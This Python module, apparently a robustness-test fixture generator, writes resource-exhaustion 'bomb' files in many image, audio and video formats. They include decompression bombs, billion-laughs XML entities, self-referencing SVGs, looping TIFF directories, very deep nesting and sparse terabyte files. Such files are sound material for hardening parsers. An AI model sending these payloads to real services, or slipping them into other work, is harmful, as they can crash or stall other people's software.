# SPDX-License-Identifier: GPL-3.0-or-later
"""Small files that ask for much: of time, of memory, or of stack. Each function writes one."""

import gzip
import os
import struct
import zlib

BOMBS = {}


def bomb(name):
    """Says under which name the function after it writes its file."""
    def note(write):
        BOMBS[name] = write
        return write
    return note


def box(kind, data=b""):
    return struct.pack(">I4s", len(data) + 8, kind) + data


def chunk(kind, data):
    return struct.pack(">I4s", len(data), kind) + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, depth, colour, *chunks):
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(chunks) + chunk(b"IEND", b"")


def riff(kind, data):
    return b"RIFF" + struct.pack("<I", len(data) + 4) + kind + data


def piece(kind, data):
    return kind + struct.pack("<I", len(data)) + data + bytes(len(data) % 2)


def packed_zeros(length):
    packer = zlib.compressobj(9)
    parts = [packer.compress(bytes(1 << 20)) for _ in range(length >> 20)]
    return b"".join([*parts, packer.compress(bytes(length % (1 << 20))), packer.flush()])


FILE_TYPE = box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")
MOVIE_HEADER = box(b"mvhd", struct.pack(">5I", 0, 0, 0, 1000, 60000) + bytes(80))


@bomb("mp4-200k-empty-traks.mp4")
def empty_tracks():
    return FILE_TYPE + box(b"moov", MOVIE_HEADER + box(b"trak") * 200_000)


@bomb("mp4-200k-media-tracks.mov")
def media_tracks():
    return FILE_TYPE + box(b"moov", MOVIE_HEADER + box(b"trak", box(b"mdia")) * 200_000)


@bomb("mp4-nested-100k-deep.mp4")
def nested_boxes():
    depth = 100_000
    return FILE_TYPE + b"".join(struct.pack(">I4s", 8 * (depth - level), b"moov" if level == 0 else b"udta")
                                for level in range(depth))


@bomb("mp4-a-million-free-boxes.mp4")
def free_boxes():
    return FILE_TYPE + box(b"free") * 1_000_000


@bomb("png-1bit-60000x60000.png")
def one_bit():
    return png(60_000, 60_000, 1, 0, chunk(b"IDAT", packed_zeros(60_000 * 7501)))


@bomb("png-comment-of-a-gigabyte.png")
def comment():
    return png(1, 1, 8, 0, chunk(b"zTXt", b"Comment\0\0" + packed_zeros(1 << 30)), chunk(b"IDAT", zlib.compress(bytes(2))))


@bomb("png-100k-texts.png")
def texts():
    return png(1, 1, 8, 0, *[chunk(b"tEXt", b"Title\0x")] * 100_000, chunk(b"IDAT", zlib.compress(bytes(2))))


@bomb("xbm-1x2147483647.xbm")
def bitmap():
    return b"#define a_width 1\n#define a_height 2147483647\nstatic char a_bits[] = {\n0x00, 0x00 };\n"


@bomb("gif-20000-frames-8000x8000.gif")
def frames():
    frame = b"!\xf9\4\0\1\0\0\0" + b"," + struct.pack("<HHHHB", 0, 0, 8000, 8000, 0) + b"\2\2\x4c\1\0"
    return b"GIF89a" + struct.pack("<HHBBB", 8000, 8000, 0x80, 0, 0) + bytes(6) + frame * 20_000 + b";"


def drawing(inside, size='width="100" height="100"'):
    return ('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
            f'xmlns:xlink="http://www.w3.org/1999/xlink" {size}>{inside}</svg>').encode()


@bomb("svg-blur-huge.svg")
def blur():
    return drawing('<filter id="f"><feGaussianBlur stdDeviation="9000"/></filter>'
                   '<rect width="30000" height="30000" filter="url(#f)"/>', 'width="30000" height="30000"')


@bomb("svg-uses-doubled-30-times.svg")
def doubled_uses():
    levels = "".join(f'<g id="g{n}"><use xlink:href="#g{n - 1}"/><use xlink:href="#g{n - 1}"/></g>' for n in range(1, 31))
    return drawing(f'<defs><rect id="g0" width="1" height="1"/>{levels}</defs><use xlink:href="#g30"/>')


@bomb("svg-entities-a-billion.svg")
def entities():
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return (f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "lol">{laughs}]>'
            '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&l9;</text></svg>').encode()


@bomb("svg-nested-200k-deep.svg")
def nested_groups():
    return drawing("<g>" * 200_000 + "</g>" * 200_000)


@bomb("svg-patterns-in-a-circle.svg")
def patterns():
    return drawing('<pattern id="a" width="1" height="1"><rect fill="url(#b)" width="9" height="9"/></pattern>'
                   '<pattern id="b" width="1" height="1"><rect fill="url(#a)" width="9" height="9"/></pattern>'
                   '<rect fill="url(#a)" width="99" height="99"/>')


@bomb("svg-includes-itself.svg")
def itself():
    return drawing('<image width="9" height="9" xlink:href="svg-includes-itself.svg"/>')


@bomb("svg-packed-200-megabytes.svgz")
def packed_drawing():
    return gzip.compress(drawing(" " * (200 << 20)), mtime=0)


@bomb("jpeg-65535x65535.jpg")
def blank_jpeg():
    return (b"\xff\xd8\xff\xdb\0\x43\0" + b"\1" * 64 + b"\xff\xc0\0\x11\x08\xff\xff\xff\xff\3\1\x22\0\2\x11\0\3\x11\0"
            b"\xff\xda\0\x0c\3\1\0\2\0\3\0\0\x3f\0" + bytes(4096) + b"\xff\xd9")


@bomb("jpeg-10000-scans.jpg")
def scans():
    return (b"\xff\xd8\xff\xdb\0\x43\0" + b"\1" * 64 + b"\xff\xc2\0\x0b\x08\x80\0\x80\0\1\1\x11\0"
            b"\xff\xc4\0\x14\0\1" + bytes(16) + b"\xff\xda\0\x08\1\1\0\0\0\0" * 10_000 + b"\xff\xd9")


@bomb("jpeg-a-million-markers.jpg")
def markers():
    return b"\xff\xd8" + b"\xff\xfe\0\2" * 1_000_000 + b"\xff\xd9"


@bomb("tiff-directory-after-itself.tiff")
def loop():
    return b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 9) + struct.pack("<I", 8)


@bomb("tiff-50k-directories.tiff")
def directories():
    count = 50_000
    entry = struct.pack("<HHHII", 1, 256, 4, 1, 9)
    return b"II*\0\x08\0\0\0" + b"".join(entry + struct.pack("<I", 8 + 18 * (n + 1)) for n in range(count))


@bomb("webp-20000-frames-16383x16383.webp")
def animation():
    frame = piece(b"ANMF", bytes(6) + b"\xfe\x3f\0\xfe\x3f\0" + bytes(4) + piece(b"VP8L", b"\x2f\xff\xff\xff\x0f" + bytes(5)))
    return riff(b"WEBP", piece(b"VP8X", b"\2\0\0\0\xfe\x3f\0\xfe\x3f\0") + piece(b"ANIM", bytes(6)) + frame * 20_000)


@bomb("ico-65535-pictures.ico")
def icons():
    return struct.pack("<HHH", 0, 1, 65_535) + struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, 40, 22) * 65_535


@bomb("bmp-runs-30000x30000.bmp")
def runs():
    return (b"BM" + struct.pack("<IHHI", 0, 0, 0, 1078) + struct.pack("<IiiHHIIiiII", 40, 30_000, 30_000, 1, 8, 1, 0, 0, 0, 256, 0)
            + bytes(1024) + b"\xff\0" * 100_000 + b"\0\1")


@bomb("ppm-999999999x1.ppm")
def row():
    return b"P6 999999999 1 255\n" + bytes(4096)


@bomb("xpm-100000x100000.xpm")
def pixmap():
    return b'/* XPM */\nstatic char *x[] = {\n"100000 100000 2 1",\n"a c #fff",\n"b c #000",\n"' + b"a" * 100_000 + b'",\n};\n'


@bomb("wav-a-million-chunks.wav")
def chunks():
    return riff(b"WAVE", piece(b"junk", b"") * 1_000_000 + piece(b"fmt ", struct.pack("<HHIIHH", 1, 1, 8000, 8000, 1, 8))
                + piece(b"data", bytes(8)))


@bomb("avi-lists-50k-deep.avi")
def lists():
    depth = 50_000
    inner = b"".join(b"LIST" + struct.pack("<I", 12 * (depth - level) - 8) + b"hdrl" for level in range(depth))
    return riff(b"AVI ", inner)


@bomb("flac-100k-blocks.flac")
def blocks():
    stream = struct.pack(">HH", 4096, 4096) + bytes(6) + bytes.fromhex("0ac440f0000000000000") + bytes(14)
    return b"fLaC" + b"\0\0\0\x22" + stream[:34] + b"\1\0\0\0" * 100_000 + b"\x81\0\0\0"


@bomb("ogg-20000-streams.ogg")
def streams():
    page = b"OggS\0\2" + bytes(8)
    return b"".join(page + struct.pack("<III", n, 0, 0) + b"\1\x1e\1vorbis" + bytes(4) + b"\2\x44\xac\0\0" + bytes(12) + b"\xb8\1"
                    for n in range(20_000))


@bomb("ogg-100k-empty-pages.ogg")
def empty_pages():
    return (b"OggS\0\0" + bytes(8) + b"\1\0\0\0" + bytes(8) + b"\0") * 100_000


@bomb("mp3-tags-in-tags.mp3")
def tags():
    return b"ID3\3\0\0\0\0\0\0" * 200_000 + (b"\xff\xfb\x90\x64" + bytes(413)) * 20


@bomb("mp3-tag-of-256-megabytes.mp3")
def long_tag():
    return b"ID3\4\0\0\x7f\x7f\x7f\x7fTIT2\x7f\x7f\x7f\0\0\0\3" + b"a" * 65_536


@bomb("mkv-masters-100k-deep.mkv")
def masters():
    header = bytes.fromhex("1a45dfa3") + b"\x8b\x42\x82\x88matroska"
    return header + bytes.fromhex("18538067") + b"\xff" + (bytes.fromhex("1654ae6b") + b"\xff") * 100_000


@bomb("mkv-100k-tracks.mkv")
def tracks():
    header = bytes.fromhex("1a45dfa3") + b"\x8b\x42\x82\x88matroska"
    entries = b"\xae\x89\xd7\x81\1\x83\x81\1\x86\x81V" * 100_000
    return header + bytes.fromhex("18538067") + b"\xff" + bytes.fromhex("1654ae6b08") + struct.pack(">I", len(entries))[1:] + entries


@bomb("ts-8000-programs.ts")
def programs():
    packets = []
    for pid in range(0x20, 0x1ff0):
        table = struct.pack(">BHHBBB", 2, 0xb012, pid, 0xc1, 0, 0) + struct.pack(">HHBHH", 0xe100, 0xf000, 27, 0xe100, 0xf000)
        packets.append((struct.pack(">BHBB", 0x47, 0x4000 | pid, 0x10, 0) + table).ljust(188, b"\xff"))
    return b"".join(packets)


@bomb("asf-objects-of-no-size.wma")
def objects():
    header = bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c")
    return header + struct.pack("<QIBB", 30 + 24 * 10_000, 10_000, 1, 2) + (header + bytes(8)) * 10_000


@bomb("midi-65535-tracks.mid")
def songs():
    return b"MThd" + struct.pack(">IHHH", 6, 1, 65_535, 96) + (b"MTrk" + bytes(4)) * 65_535


@bomb("playlist-of-itself.m3u8")
def playlist():
    return b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n" + b"#EXTINF:9,\nplaylist-of-itself.m3u8\n" * 10_000


# A terabyte that takes no room: only its beginning is there.
SPARSE = {"sparse-terabyte.mp4": FILE_TYPE, "sparse-terabyte.png": b"\x89PNG\r\n\x1a\n", "sparse-terabyte.wav": b"RIFF\xff\xff\xff\xffWAVE"}


def write_all(folder):
    """Writes every bomb into a folder. Returns their names."""
    os.makedirs(folder, exist_ok=True)
    for name, write in BOMBS.items():
        with open(os.path.join(folder, name), "wb") as file:
            file.write(write())
    for name, start in SPARSE.items():
        with open(os.path.join(folder, name), "wb") as file:
            file.write(start)
            file.truncate(1 << 40)
    return [*BOMBS, *SPARSE]
